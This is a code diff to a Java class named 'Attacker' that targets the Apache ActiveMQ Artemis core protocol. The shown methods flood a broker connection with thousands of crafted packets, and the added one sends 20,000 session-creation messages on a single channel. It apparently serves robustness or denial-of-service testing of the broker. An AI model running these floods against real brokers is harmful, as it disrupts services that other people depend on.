@@ -36,8 +36,10 @@ import org.apache.activemq.artemis.core.protocol.core.Channel;
 import org.apache.activemq.artemis.core.protocol.core.CoreRemotingConnection;
 import org.apache.activemq.artemis.core.protocol.core.Packet;
 import org.apache.activemq.artemis.core.protocol.core.impl.ActiveMQSessionContext;
+import org.apache.activemq.artemis.core.protocol.core.impl.ChannelImpl.CHANNEL_ID;
 import org.apache.activemq.artemis.core.protocol.core.impl.PacketImpl;
 import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.CreateProducerMessage;
+import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.CreateSessionMessage;
 import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.SessionQueueQueryMessage;
 import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.SessionSendContinuationMessage_V3;
 import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.SessionSendLargeMessage;
@@ -285,6 +287,16 @@ final class Attacker implements AutoCloseable {
         repeat(number, i -> {
             Packet packet = new PacketImpl(PacketImpl.SESS_XA_SUSPEND);
             packet.setChannelID(1_000 + i);
+            remote.getTransportConnection().write(packet.encode(remote));
+        });
+    }
+
+    void sameSession() throws Exception {
+        CoreRemotingConnection remote = channel(core()).getConnection();
+        repeat(20_000, i -> {
+            Packet packet = new CreateSessionMessage("session " + i, 10_000, remote.getChannelVersion(), null, null,
+                    100_000, false, true, true, false, -1, null);
+            packet.setChannelID(CHANNEL_ID.SESSION.id);
             remote.getTransportConnection().write(packet.encode(remote));
         });
     }
